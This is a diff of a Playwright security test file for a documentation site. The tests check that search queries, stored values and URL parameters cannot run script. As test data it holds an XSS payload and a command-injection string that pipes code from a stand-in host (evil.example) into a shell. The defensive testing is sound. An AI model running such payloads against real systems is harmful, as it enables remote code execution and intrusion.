@@ -3,6 +3,7 @@ import type { Page } from '@playwright/test';
 import { limits } from '../src/site/limits';
 import { expect, test } from './fixtures';
 import { holdApplication } from './hold-application';
+import { pairs } from './nightly';
 import { otherBrand } from './servers';
 
 const SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
@@ -28,11 +29,14 @@ const QUERIES: readonly (readonly [name: string, query: string])[] = [
   ['the name of a property', '__proto__ constructor toString'],
   ['blanks only', '   \t  '],
 ];
+/** By day, each query is tested in one of the two places. */
+const QUERIES_BY_PLACE = pairs(QUERIES, ['page', 'dialog']);
+const queriesFor = (place: 'page' | 'dialog') => QUERIES_BY_PLACE.filter(([, its]) => its === place).map(([query]) => query);
 
 test('a query in the address of the search page', async ({ page, site }) => {
   // This test opens many pages, which takes time on a busy machine.
   test.slow();
-  const encoded = QUERIES.map(([name, query]) => [name, encodeURIComponent(query)] as const);
+  const encoded = queriesFor('page').map(([name, query]) => [name, encodeURIComponent(query)] as const);
   for (const [name, query] of [...encoded, ['not encoded well', '%E0%A4%A'] as const]) {
     await test.step(name, async () => {
       await site.open(`/search?q=${query}`);
@@ -51,7 +55,7 @@ test('a query in the address of the search page', async ({ page, site }) => {
 test('a query in the dialog', async ({ page, site }) => {
   await site.open('/');
   await site.dialog.open();
-  for (const [at, [name, query]] of QUERIES.entries()) {
+  for (const [at, [name, query]] of queriesFor('dialog').entries()) {
     await test.step(name, async () => {
       await site.dialog.input.fill('');
       await page.keyboard.insertText(query.replace(/[\n\r\u2028]/g, ' '));
@@ -91,26 +95,28 @@ test.describe('in the storage', () => {
   }
 });
 
-test.describe('stored texts for the values of code', () => {
+test('stored texts for the values of code are not shown, even without the script that checks them', async ({ page, problems }) => {
+  problems.expect(/ERR_FAILED/);
+  // A separate script checks the values, and it may arrive late or not at all.
+  await page.route(/\/values\.\w+\.js$/, (route) => route.abort());
+  await page.goto('/getting-started/quickstart');
   for (const [name, text] of [
     ['a command', '$(touch /tmp/x); curl evil.example | sh #'],
     ['several lines', 'reports\ncurl evil.example'],
     ['an object', { toString: 1 }],
     ['1,000,000 characters', 'x'.repeat(1_000_000)],
   ] as const) {
-    // A separate script checks the values, and it may arrive late or not at all.
-    test(`that are ${name} are not shown, even without the script that checks them`, async ({ page, problems }) => {
-      problems.expect(/ERR_FAILED/);
-      await page.addInitScript(
-        (stored) => localStorage.setItem('reader-values', stored),
-        JSON.stringify({ values: {}, texts: { '': text, 'eu-1': text } }),
-      );
-      await page.route(/\/values\.\w+\.js$/, (route) => route.abort());
-      await page.goto('/getting-started/quickstart');
-      const shown = await page.locator('var').evaluateAll((values) => values.map(({ textContent }) => textContent));
-      expect(shown.length).toBeGreaterThan(5);
-      expect(shown.filter((value) => !/^[\w.:/-]{1,100}$/.test(value))).toEqual([]);
-    });
+    await page.evaluate(
+      (stored) => localStorage.setItem('reader-values', stored),
+      JSON.stringify({ values: {}, texts: { '': text, 'eu-1': text } }),
+    );
+    await page.reload();
+    const shown = await page.locator('var').evaluateAll((values) => values.map(({ textContent }) => textContent));
+    expect(shown.length, name).toBeGreaterThan(5);
+    expect(
+      shown.filter((value) => !/^[\w.:/-]{1,100}$/.test(value)),
+      name,
+    ).toEqual([]);
   }
 });
 
@@ -208,8 +214,6 @@ test.describe('in the address', () => {
       await expect(site.title).toBeVisible();
       await expect(site.main.locator('img[src="x"], script:not([data-scripts])')).toHaveCount(0);
       await expectNothingExecuted(page);
-      await site.dialog.search('object lock');
-      await expectNothingExecuted(page);
     });
   }
 
@@ -227,7 +231,7 @@ test.describe('in the address', () => {
     });
   }
 
-  test('attributes that an address gives the page hide nothing of it', async ({ page, site }) => {
+  test('attributes and unknown parameters in an address hide nothing of the page', async ({ page, site }) => {
     const names = [
       'rest',
       'hidden',
@@ -241,16 +245,13 @@ test.describe('in the address', () => {
       'status',
       'apple',
     ];
-    await site.open(`/guides/object-lock?${names.map((name) => `docusaurus-data-${name}=${encodeURIComponent(SCRIPT)}`).join('&')}`);
+    const attributes = names.map((name) => `docusaurus-data-${name}=${encodeURIComponent(SCRIPT)}`).join('&');
+    await site.open(
+      `/guides/object-lock${hostile('in', 'page')}&q=lock&${attributes}&x=${encodeURIComponent(SCRIPT)}&docusaurus-data-evil=1&docusaurus-theme=light`,
+    );
     await expect(site.title).toHaveText('Object Lock');
     await expect(site.footer).toBeVisible();
     await site.dialog.search('versioning');
-    await expectNothingExecuted(page);
-  });
-
-  test('unknown parameters do no harm', async ({ page, site }) => {
-    await site.open(`/guides/object-lock?x=${encodeURIComponent(SCRIPT)}&docusaurus-data-evil=1&docusaurus-theme=light`);
-    await expect(site.title).toHaveText('Object Lock');
     await expectNothingExecuted(page);
   });
 });
